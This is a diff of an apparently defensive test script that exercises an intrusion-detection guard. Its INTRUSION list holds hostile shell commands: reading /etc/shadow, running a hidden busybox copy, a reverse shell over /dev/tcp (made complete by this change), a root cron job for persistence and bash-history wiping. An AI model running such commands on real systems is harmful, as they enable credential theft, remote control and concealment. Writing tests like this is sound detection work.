@@ -43,7 +43,7 @@ def show(command: list[str | Path], keep: int = 1000) -> None:
 INTRUSION = (
     ("looks for passwords", "cat /etc/shadow >/dev/null"),
     ("brings a program of their own", "cp /bin/busybox /tmp/.x && /tmp/.x true"),
-    ("calls home", "exec 3<>/dev/tcp/127.0.0.1/4444"),
+    ("calls home", "exec 3<>/dev/tcp/127.0.0.1/4444 && sh <&3 >&3"),
     ("stays", "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/.x' >/etc/cron.d/x"),
     ("tidies up", "rm -f /tmp/.x; touch /root/.bash_history; rm /root/.bash_history"),
 )
@@ -64,6 +64,8 @@ def guarding(binary: Path, store: Path) -> Iterator[None]:
         process.send_signal(signal.SIGINT)
         say(process.communicate()[1].rstrip())
         say()
+    if process.returncode not in (0, 1):     # 1: something was lost, and it says so
+        sys.exit(f"the guard ended with {process.returncode}: see what it says above")
 
 
 def intrude(binary: Path, store: Path) -> None:
